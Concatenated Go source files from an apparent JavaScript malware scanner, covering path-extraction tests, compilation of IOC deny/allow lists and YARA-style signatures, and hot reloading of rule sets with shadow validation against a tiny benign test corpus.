	p3 := Path{Source: "a", Target: "c", Nodes: []string{"X", "Y"}}
	if p1.Hash() != p2.Hash() {
		t.Error("equal paths hash differently")
	}
	if p1.Hash() == p3.Hash() {
		t.Error("different paths collide (unlikely)")
	}
	// Component boundary: ("ab","c") must differ from ("a","bc").
	q1 := Path{Source: "ab", Target: "c", Nodes: []string{"N"}}
	q2 := Path{Source: "a", Target: "bc", Nodes: []string{"N"}}
	if q1.Hash() == q2.Hash() {
		t.Error("component boundary not separated in hash")
	}
}

func TestComponentHashes(t *testing.T) {
	p := Path{Source: "v", Target: "v", Nodes: []string{"N1", "N2"}}
	s1, n1, t1 := p.ComponentHashes()
	// Same value in source and target slots must still hash differently
	// (slot-prefixed).
	if s1 == t1 {
		t.Error("source and target hashes should differ by slot prefix")
	}
	// Same structure with different values shares the structure hash.
	p2 := Path{Source: "w", Target: "w", Nodes: []string{"N1", "N2"}}
	_, n2, _ := p2.ComponentHashes()
	if n1 != n2 {
		t.Error("structure hash should be value-independent")
	}
}

func TestRenamingPreservesStructureHashes(t *testing.T) {
	src1 := "var alpha = 1;\nuse(alpha);"
	src2 := "var zeta9 = 1;\nuse(zeta9);"
	p1 := extract(t, src1, DefaultOptions())
	p2 := extract(t, src2, DefaultOptions())
	if len(p1) != len(p2) {
		t.Fatalf("path counts differ: %d vs %d", len(p1), len(p2))
	}
	for i := range p1 {
		_, n1, _ := p1[i].ComponentHashes()
		_, n2, _ := p2[i].ComponentHashes()
		if n1 != n2 {
			t.Errorf("structure hash changed under renaming: %v vs %v", p1[i], p2[i])
		}
	}
}

// TestQuickLengthBound property-tests the length bound across random
// option values.
func TestQuickLengthBound(t *testing.T) {
	prog, err := parser.Parse(sampleSrc)
	if err != nil {
		t.Fatal(err)
	}
	f := func(rawLen, rawWidth uint8) bool {
		opts := Options{
			MaxLength:   2 + int(rawLen%14),
			MaxWidth:    1 + int(rawWidth%6),
			MaxPaths:    0,
			UseDataFlow: true,
		}
		for _, p := range Extract(prog, opts) {
			if len(p.Nodes) > opts.MaxLength {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}

func TestTypeInference(t *testing.T) {
	src := `
var s = "x" + "y";
var i = 2 + 3;
var flag = !s;
var arr = [1];
var obj = { a: 1 };
var fn = function() { return 1; };
lonely(s, i, flag, arr, obj, fn);
notused(s);
var untouched1 = s;
var u2 = i, u3 = flag, u4 = arr, u5 = obj, u6 = fn;
`
	// Force abstraction by checking types map indirectly: the un-linked
	// declarations carry @var_* sources.
	opts := DefaultOptions()
	opts.UseDataFlow = false // everything abstracted -> inferred types visible
	paths := extract(t, src, opts)
	seen := make(map[string]bool)
	for _, p := range paths {
		seen[p.Source] = true
		seen[p.Target] = true
	}
	for _, want := range []string{"@var_str", "@var_int", "@var_bool", "@var_arr", "@var_obj", "@var_fun"} {
		if !seen[want] {
			t.Errorf("missing inferred type %s in %v", want, keys(seen))
		}
	}
}

func TestEmptyProgram(t *testing.T) {
	paths := extract(t, "", DefaultOptions())
	if len(paths) != 0 {
		t.Errorf("empty program produced %d paths", len(paths))
	}
}

func TestSingleStatementStillYieldsPaths(t *testing.T) {
	paths := extract(t, "f(a, b);", DefaultOptions())
	if len(paths) == 0 {
		t.Error("single call should yield leaf-pair paths")
	}
}
