// Compilation: welding validated rule files into one immutable Set. This is
// where whole-set invariants live — unique IDs across every file, refs
// resolving to real signatures, and an acyclic ref graph — and where regexes
// are compiled once so evaluation never pays parse cost.
package rules

import (
	"fmt"
	"regexp"
	"strings"
	"time"
)

// Set is one compiled, immutable rule-set generation. All evaluation methods
// are safe for concurrent use and safe on a nil receiver (a nil Set matches
// nothing), so callers can hold "rules disabled" as nil without branching.
type Set struct {
	// Gen is the generation stamp the Holder assigns when the set takes
	// traffic. The scan cache stores the producing generation with every
	// entry, so verdicts computed under an older rule set are never
	// served after a reload (anti-aliasing, like the deob flag).
	Gen uint64

	files    int
	loadedAt time.Time

	allow []*compiledList
	deny  []*compiledList
	sigs  []*compiledSig

	// denyNeedles are the cheap prefilter probes for EvalText: one entry
	// per deny-list indicator. needleFold entries are matched
	// ASCII-case-insensitively (hosts), needleExact case-sensitively
	// (literal strings). Extraction and proper confirmation only run when
	// a probe hits, so the pre-triage stage stays near-free on clean
	// traffic.
	denyNeedles []needle

	// needPaths records whether any signature contains a path predicate,
	// so the engine only parses the normalized source for rules when a
	// rule can actually use the AST.
	needPaths bool
}

// needle is one EvalText prefilter probe.
type needle struct {
	s    string
	fold bool // ASCII-case-insensitive when true
}

// compiledList is a ListRule with lowercased host indicators and its
// allow/deny role resolved.
type compiledList struct {
	id       string
	kind     string // HitDeny or HitAllow
	severity string
	domains  []string // lowercase
	ips      map[string]struct{}
	tlds     []string // lowercase, no leading dot
	strs     []string // case-sensitive substrings
}

// compiledSig is a Signature with its match tree compiled and refs resolved.
type compiledSig struct {
	id       string
	severity string
	match    *compiledMatch
}

// matchOp discriminates compiledMatch variants.
type matchOp int

const (
	opAll matchOp = iota
	opAny
	opNot
	opSubstring
	opRegex
	opPath
)

// compiledMatch is one node of a compiled match tree. Refs are resolved at
// compile time by aliasing the target signature's compiled tree, so
// evaluation never chases IDs.
type compiledMatch struct {
	op   matchOp
	kids []*compiledMatch
	str  string
	re   *regexp.Regexp
	path *PathPred
}

// Files reports how many rule files produced the set.
func (s *Set) Files() int {
	if s == nil {
		return 0
	}
	return s.files
}

// Rules reports the total number of rules (lists plus signatures).
func (s *Set) Rules() int {
	if s == nil {
		return 0
	}
	return len(s.allow) + len(s.deny) + len(s.sigs)
}

// NeedsAST reports whether any rule inspects path contexts, i.e. whether
// the engine should hand Eval a parsed program.
func (s *Set) NeedsAST() bool { return s != nil && s.needPaths }

// Generation reports the set's generation stamp; a nil set (rules disabled)
// is generation 0, which no live set ever is — Holder generations start at 1.
func (s *Set) Generation() uint64 {
	if s == nil {
		return 0
	}
	return s.Gen
}

// Compile merges validated files into one Set, enforcing whole-set
// invariants: total rule count, globally unique IDs, refs that resolve to
// signatures, and an acyclic ref graph.
func Compile(files []*File) (*Set, error) {
	set := &Set{}
	ids := map[string]bool{}
	total := 0
	claim := func(id string) error {
		total++
		if total > MaxRules {
			return fmt.Errorf("rules: more than %d rules in set", MaxRules)
		}
		if ids[id] {
			return fmt.Errorf("rules: duplicate rule id %q", id)
		}
		ids[id] = true
		return nil
	}

	// Index signatures first so refs can point at rules in any file, in
	// any order.
	sigByID := map[string]*Signature{}
	for _, f := range files {
		for i := range f.Signatures {
			s := &f.Signatures[i]
			if err := claim(s.ID); err != nil {
				return nil, err
			}
			sigByID[s.ID] = s
		}
	}
	if err := checkRefs(sigByID); err != nil {
		return nil, err
	}

	compiled := map[string]*compiledMatch{}
	var build func(id string, m *MatchNode) (*compiledMatch, error)
	build = func(id string, m *MatchNode) (*compiledMatch, error) {
		switch {
		case len(m.All) > 0 || len(m.Any) > 0:
			cm := &compiledMatch{op: opAll}
			kids := m.All
			if len(m.Any) > 0 {
				cm.op = opAny
				kids = m.Any
			}
			for _, k := range kids {
				ck, err := build(id, k)
				if err != nil {
					return nil, err
				}
				cm.kids = append(cm.kids, ck)
			}
			return cm, nil
		case m.Not != nil:
			ck, err := build(id, m.Not)
			if err != nil {
				return nil, err
			}
			return &compiledMatch{op: opNot, kids: []*compiledMatch{ck}}, nil
		case m.Substring != "":
			return &compiledMatch{op: opSubstring, str: m.Substring}, nil
		case m.Regex != "":
			re, err := regexp.Compile(m.Regex)
			if err != nil {
				// Parse already compiled it; unreachable outside
				// hand-built Files.
				return nil, fmt.Errorf("rules: %s: bad regex: %w", id, err)
			}
			return &compiledMatch{op: opRegex, re: re, str: m.Regex}, nil
		case m.Path != nil:
			set.needPaths = true
			return &compiledMatch{op: opPath, path: m.Path}, nil
		case m.Ref != "":
			if cm, ok := compiled[m.Ref]; ok {
				return cm, nil
			}
			target := sigByID[m.Ref] // checkRefs guaranteed it exists
			cm, err := build(m.Ref, target.Match)
			if err != nil {
				return nil, err
			}
			compiled[m.Ref] = cm
			return cm, nil
		}
		return nil, fmt.Errorf("rules: %s: empty match node", id)
	}

	for _, f := range files {
		for i := range f.Signatures {
			s := &f.Signatures[i]
			cm, ok := compiled[s.ID]
			if !ok {
				var err error
				cm, err = build(s.ID, s.Match)
				if err != nil {
					return nil, err
				}
				compiled[s.ID] = cm
			}
			sev := s.Severity
			if sev == "" {
				sev = SeverityMedium
			}
			set.sigs = append(set.sigs, &compiledSig{id: s.ID, severity: sev, match: cm})
		}
		for i := range f.Allow {
			cl, err := compileList(&f.Allow[i], HitAllow, SeverityInfo, claim)
			if err != nil {
				return nil, err
			}
			set.allow = append(set.allow, cl)
		}
		for i := range f.Deny {
			cl, err := compileList(&f.Deny[i], HitDeny, SeverityHigh, claim)
			if err != nil {
				return nil, err
			}
			set.deny = append(set.deny, cl)
			for _, d := range cl.domains {
				set.denyNeedles = append(set.denyNeedles, needle{s: d, fold: true})
			}
			for ip := range cl.ips {
				set.denyNeedles = append(set.denyNeedles, needle{s: ip})
			}
			for _, t := range cl.tlds {
				set.denyNeedles = append(set.denyNeedles, needle{s: "." + t, fold: true})
			}
			for _, str := range cl.strs {
				set.denyNeedles = append(set.denyNeedles, needle{s: str})
			}
		}
	}
	return set, nil
}

// compileList lowercases host indicators and resolves the rule's role.
func compileList(r *ListRule, kind, defSev string, claim func(string) error) (*compiledList, error) {
	if err := claim(r.ID); err != nil {
		return nil, err
	}
	sev := r.Severity
	if sev == "" {
		sev = defSev
	}
	cl := &compiledList{id: r.ID, kind: kind, severity: sev, strs: r.Strings}
	for _, d := range r.Domains {
		cl.domains = append(cl.domains, strings.ToLower(d))
	}
	if len(r.IPs) > 0 {
		cl.ips = make(map[string]struct{}, len(r.IPs))
		for _, ip := range r.IPs {
			cl.ips[ip] = struct{}{}
		}
	}
	for _, t := range r.TLDs {
		cl.tlds = append(cl.tlds, strings.ToLower(strings.TrimPrefix(t, ".")))
	}
	return cl, nil
}

// checkRefs verifies every ref resolves to a signature and that the ref
// graph is acyclic, via three-color DFS over signature IDs.
func checkRefs(sigs map[string]*Signature) error {
	const (
		white = 0 // unvisited
		gray  = 1 // on the DFS stack
		black = 2 // fully explored
	)
	color := map[string]int{}
	var visit func(id string) error
	visit = func(id string) error {
		switch color[id] {
		case gray:
			return fmt.Errorf("rules: ref cycle through %q", id)
		case black:
			return nil
		}
		color[id] = gray
		var walk func(m *MatchNode) error
		walk = func(m *MatchNode) error {
			if m == nil {
				return nil
			}
			if m.Ref != "" {
				if _, ok := sigs[m.Ref]; !ok {
					return fmt.Errorf("rules: %s: ref %q does not name a signature", id, m.Ref)
				}
				return visit(m.Ref)
			}
			for _, c := range m.All {
				if err := walk(c); err != nil {
					return err
				}
			}
			for _, c := range m.Any {
				if err := walk(c); err != nil {
					return err
				}
			}
			return walk(m.Not)
		}
		if err := walk(sigs[id].Match); err != nil {
			return err
		}
		color[id] = black
		return nil
	}
	for id := range sigs {
		if err := visit(id); err != nil {
			return err
		}
	}
	return nil
}
