// Hot reload: the generation holder for rule sets, mirroring the serving
// layer's model holder. Reads on the scan path are one atomic load; reloads
// are serialized, shadow-validated, and swap whole immutable generations —
// a broken rule directory can never replace a working set.
package rules

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
)

// Provider yields the rule set currently taking traffic. The scan engine
// holds a Provider rather than a Set so every in-flight engine generation
// observes rule reloads without being rebuilt.
type Provider interface {
	// Current returns the live set; nil means rules are disabled.
	Current() *Set
}

// StaticProvider serves one fixed rule set: the CLI loads rules once per
// invocation and never reloads, so it has no use for a Holder.
type StaticProvider struct {
	// Set is the fixed set to serve; nil means rules are disabled.
	Set *Set
}

// Current implements Provider.
func (p StaticProvider) Current() *Set { return p.Set }

// Holder owns the live rule-set generation behind an atomic pointer and
// implements Provider. The zero value is not usable; construct with
// NewHolder and call Reload to load the first generation.
type Holder struct {
	dir     string
	reg     *obs.Registry
	cur     atomic.Pointer[Set]
	gen     atomic.Uint64
	reloads atomic.Int64

	mu sync.Mutex // serializes reload attempts
}

// Info is the operator-facing snapshot of the live rule set, exposed on
// /version and returned by reload endpoints.
type Info struct {
	// Dir is the directory the set was loaded from.
	Dir string `json:"dir"`
	// Files is the number of rule files in the set.
	Files int `json:"files"`
	// Rules is the total rule count (lists plus signatures).
	Rules int `json:"rules"`
	// Gen is the live generation number (1 for the first load).
	Gen uint64 `json:"gen"`
	// LoadedAt is when the set took traffic.
	LoadedAt time.Time `json:"loaded_at"`
	// Reloads counts successful reloads including the first load.
	Reloads int64 `json:"reloads"`
}

// NewHolder returns an empty holder over dir. reg receives reload metrics;
// nil selects the default registry. No rules are loaded until Reload.
func NewHolder(dir string, reg *obs.Registry) *Holder {
	if reg == nil {
		reg = obs.Default()
	}
	return &Holder{dir: dir, reg: reg}
}

// Current implements Provider; it returns nil until the first successful
// Reload.
func (h *Holder) Current() *Set { return h.cur.Load() }

// Reload loads the holder's directory, shadow-validates the compiled set,
// and — only then — swaps it in as the live generation. On any error the
// previous generation keeps serving untouched and the error is returned for
// the operator.
func (h *Holder) Reload() (Info, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	set, err := Load(h.dir)
	if err != nil {
		h.reg.Counter(metricReload, helpReload, obs.Labels{"result": "error"}).Inc()
		return Info{}, err
	}
	if err := ShadowValidate(set); err != nil {
		h.reg.Counter(metricReload, helpReload, obs.Labels{"result": "error"}).Inc()
		return Info{}, fmt.Errorf("rules: shadow validation rejected %s: %w", h.dir, err)
	}
	set.Gen = h.gen.Add(1)
	set.loadedAt = time.Now()
	RegisterSetMetrics(h.reg, set)
	h.cur.Store(set)
	h.reloads.Add(1)
	h.reg.Counter(metricReload, helpReload, obs.Labels{"result": "ok"}).Inc()
	return h.infoLocked(set), nil
}

// Info snapshots the live set for /version; the zero Info means no rules
// are loaded.
func (h *Holder) Info() Info {
	if h == nil {
		return Info{}
	}
	set := h.cur.Load()
	if set == nil {
		return Info{Dir: h.dir, Reloads: h.reloads.Load()}
	}
	return h.infoLocked(set)
}

func (h *Holder) infoLocked(set *Set) Info {
	return Info{
		Dir:      h.dir,
		Files:    set.Files(),
		Rules:    set.Rules(),
		Gen:      set.Gen,
		LoadedAt: set.loadedAt,
		Reloads:  h.reloads.Load(),
	}
}

// shadowCorpus is the embedded validation set: plainly benign scripts a
// sane rule set must never deny, plus a suspicious canary that merely must
// not break evaluation. Mirrors the model holder's smoke corpus.
var shadowCorpus = []struct {
	name   string
	benign bool
	src    string
}{
	{"shadow-plain.js", true, "function greet(name) { return 'hello ' + name; }\ngreet('world');"},
	{"shadow-loop.js", true, "var total = 0;\nfor (var i = 0; i < 100; i++) { total += i * i; }"},
	{"shadow-dynamic.js", false, "var payload = unescape('%61%6c%65%72%74');\nvar fn = new Function(payload + '(1)');\nfn();"},
}

// shadowTimeout bounds the whole shadow pass; a rule set that cannot
// evaluate three tiny scripts in this budget has no business taking traffic.
const shadowTimeout = 30 * time.Second

// ShadowValidate runs the candidate set over the embedded corpus before it
// can take traffic. It rejects sets that panic or time out, and sets that
// deny or force-match the plainly benign scripts — the fat-fingered rule
// ("deny every script containing `function`") that would flag the whole
// internet. Reload calls it automatically; it is exported so operators can
// pre-flight rule directories in tests and tooling.
func ShadowValidate(s *Set) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic during evaluation: %v", r)
		}
	}()
	ctx, cancel := context.WithTimeout(context.Background(), shadowTimeout)
	defer cancel()
	// Route shadow metrics to a throwaway registry: validation runs must
	// not pollute live eval/hit counters.
	ctx = obs.WithRegistry(ctx, obs.NewRegistry())
	for _, sc := range shadowCorpus {
		if ctx.Err() != nil {
			return fmt.Errorf("timed out")
		}
		v := s.EvalText(ctx, sc.src)
		prog, _ := parser.Parse(sc.src)
		full := s.Eval(ctx, Input{Name: sc.name, Raw: sc.src, Normalized: sc.src, Prog: prog})
		if sc.benign && (v.Action == ActionMalicious || full.Action == ActionMalicious) {
			return fmt.Errorf("%s: benign shadow script matched %s", sc.name, firstForcing(append(v.Hits, full.Hits...)))
		}
	}
	return nil
}

// firstForcing names the rule to blame in a shadow-validation rejection.
func firstForcing(hits []Hit) string {
	for _, h := range hits {
		if h.Kind == HitDeny || (h.Kind == HitSignature && Forcing(h.Severity)) {
			return fmt.Sprintf("rule %q (%s)", h.Rule, h.Kind)
		}
	}
	return "a forcing rule"
}
