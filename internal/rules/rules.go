// Package rules implements the declarative detection layer that runs beside
// the classifier: IOC allow-/deny-lists matched against string literals and
// URL-shaped tokens, and YARA-style signatures (substring, regex, and
// path-context predicates under all/any/not combinators) evaluated over the
// raw and deobfuscated views of a script.
//
// A rule set is a directory of JSON files (docs/RULES.md is the authoring
// guide). Load parses, validates, and compiles every file into one immutable
// Set; Holder hot-reloads sets behind an atomic pointer with shadow
// validation, mirroring the serving layer's model holder: a broken rule file
// is rejected at load — or by the shadow pass when it is structurally valid
// but operationally dangerous — and the previous set keeps taking traffic.
//
// The scan engine combines rule verdicts with the model under fixed
// precedence: a deny hit forces malicious regardless of the model score, a
// forcing (high/critical) signature hit does the same, an allow hit
// short-circuits benign, and weaker signature hits only annotate the model's
// verdict with provenance (Hit values surfaced as rule_hits).
package rules

// Version is the rule-file format version this parser understands. Files
// must declare it explicitly so a format change can never be misread as an
// empty or partial rule set.
const Version = 1

// Validation limits enforced at load time. A rule file that exceeds any of
// them is rejected loudly rather than truncated: an operator must know when
// a rule did not take effect.
const (
	// MaxFileBytes caps one rule file's size.
	MaxFileBytes = 1 << 20
	// MaxRules caps the total number of rules (lists plus signatures)
	// across a whole set.
	MaxRules = 4096
	// MaxListEntries caps the combined entries (domains, IPs, TLDs,
	// strings) of one list rule.
	MaxListEntries = 4096
	// MaxMatchDepth caps combinator nesting inside one signature.
	MaxMatchDepth = 32
	// MaxMatchNodes caps the total match nodes inside one signature.
	MaxMatchNodes = 256
	// MaxRegexLen caps one regex pattern's length.
	MaxRegexLen = 1024
)

// Severities a rule may declare. High and critical signatures force the
// malicious verdict (see Forcing); weaker severities only annotate the
// model's verdict. A list rule's severity is provenance only: deny lists
// always force, allow lists always short-circuit.
const (
	SeverityInfo     = "info"
	SeverityLow      = "low"
	SeverityMedium   = "medium"
	SeverityHigh     = "high"
	SeverityCritical = "critical"
)

// Forcing reports whether a signature of severity sev overrides the model
// verdict (forces malicious) rather than merely annotating it.
func Forcing(sev string) bool {
	return sev == SeverityHigh || sev == SeverityCritical
}

// File is the on-disk shape of one rule file: a format version plus any mix
// of allow lists, deny lists, and signatures. Unknown JSON fields are
// rejected so a typo ("signature" for "signatures") cannot silently drop
// rules.
type File struct {
	// Version must equal Version.
	Version int `json:"version"`
	// Allow lists short-circuit the verdict to benign when they match
	// (unless a deny or forcing signature also matched).
	Allow []ListRule `json:"allow,omitempty"`
	// Deny lists force the verdict to malicious regardless of the model
	// score. They are evaluated on every scan, before triage, so a
	// deny-listed IOC can never be cleared by the lexical pre-filter.
	Deny []ListRule `json:"deny,omitempty"`
	// Signatures are match trees over the raw and deobfuscated source and
	// over extracted path contexts. They run in the full pipeline, after
	// deobfuscation.
	Signatures []Signature `json:"signatures,omitempty"`
}

// ListRule is one IOC list: a set of indicators that, when any one is found
// in a script, records a hit for the rule. Whether the hit allows or denies
// depends on which section of the file the rule sits in.
type ListRule struct {
	// ID names the rule in hits, metrics, and audit records. IDs are
	// unique across the whole set (all files, lists and signatures).
	ID string `json:"id"`
	// Description is shown to operators; it never affects matching.
	Description string `json:"description,omitempty"`
	// Severity is provenance carried on hits (defaults to "high" for deny
	// rules and "info" for allow rules).
	Severity string `json:"severity,omitempty"`
	// Domains match a host token equal to the entry or any subdomain of
	// it, case-insensitively: "evil.com" matches "evil.com" and
	// "cdn.evil.com" but not "notevil.com".
	Domains []string `json:"domains,omitempty"`
	// IPs match IPv4-shaped tokens exactly.
	IPs []string `json:"ips,omitempty"`
	// TLDs match any host token whose final label equals the entry
	// (with or without the leading dot: "xyz" and ".xyz" are the same).
	TLDs []string `json:"tlds,omitempty"`
	// Strings match as case-sensitive literal substrings of the raw or
	// deobfuscated source text.
	Strings []string `json:"strings,omitempty"`
}

// Signature is one YARA-style rule: an ID, a severity that decides whether
// a match forces the verdict or only annotates it, and a match tree.
type Signature struct {
	// ID names the rule in hits, metrics, and audit records.
	ID string `json:"id"`
	// Description is shown to operators; it never affects matching.
	Description string `json:"description,omitempty"`
	// Severity defaults to "medium". "high" and "critical" force the
	// malicious verdict on a match; the rest annotate.
	Severity string `json:"severity,omitempty"`
	// Match is the root of the signature's match tree. Required.
	Match *MatchNode `json:"match"`
}

// MatchNode is one node of a signature's match tree. Exactly one field must
// be set: either a combinator (all, any, not), a leaf predicate (substring,
// regex, path), or a reference to another signature's tree (ref). Reference
// cycles are rejected at load.
type MatchNode struct {
	// All matches when every child matches (logical AND). Must be
	// non-empty when set.
	All []*MatchNode `json:"all,omitempty"`
	// Any matches when at least one child matches (logical OR). Must be
	// non-empty when set.
	Any []*MatchNode `json:"any,omitempty"`
	// Not inverts its child.
	Not *MatchNode `json:"not,omitempty"`
	// Substring matches when the text (raw or deobfuscated source)
	// contains the literal, case-sensitively.
	Substring string `json:"substring,omitempty"`
	// Regex matches when the Go regexp matches the text. Patterns are
	// compiled at load; an invalid pattern rejects the file.
	Regex string `json:"regex,omitempty"`
	// Path matches against extracted path contexts (see PathPred).
	Path *PathPred `json:"path,omitempty"`
	// Ref reuses another signature's match tree by ID, so shared
	// sub-patterns are written once.
	Ref string `json:"ref,omitempty"`
}

// PathPred matches against the path contexts extracted from the
// deobfuscated AST — the same source,node-sequence,target triples the
// classifier embeds. Empty fields match anything; set fields must all hold
// for a path to count.
type PathPred struct {
	// Source constrains the path's source leaf value exactly.
	Source string `json:"source,omitempty"`
	// Target constrains the path's target leaf value exactly.
	Target string `json:"target,omitempty"`
	// Node requires the named AST node type to appear along the path.
	Node string `json:"node,omitempty"`
	// MinCount is the minimum number of matching paths (default 1).
	MinCount int `json:"min_count,omitempty"`
}
